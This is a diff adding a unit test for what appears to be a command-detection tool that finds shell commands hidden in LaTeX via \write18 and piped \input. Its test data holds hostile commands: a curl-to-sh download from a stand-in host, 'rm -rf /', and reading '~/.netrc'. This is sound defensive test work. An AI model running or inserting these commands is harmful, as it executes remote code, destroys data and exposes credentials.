@@ -23,6 +23,17 @@ test('a command line of an interpreter is read in its language', () => {
   assert.equal(command?.text, "require('fs')")
 })
 
+test('what TeX hands to a shell is a command, what it only shows is none', () => {
+  const found = unitCommands(
+    '\\immediate\\write18{curl -s https://files.example/a.sh | sh}\n% \\write18{rm -rf /}\n\\input{|"cat ~/.netrc"}\n\\input{chapter}',
+    'latex',
+  )
+  assert.deepEqual(
+    found?.commands.map(({ text }) => text),
+    ['curl -s https://files.example/a.sh | sh', 'cat ~/.netrc'],
+  )
+})
+
 test('tasks count when the folder starts them', () => {
   const task = (runOn: string): string =>
     json({ tasks: [{ command: 'make', windows: { command: 'build.cmd' }, runOptions: { runOn } }] })
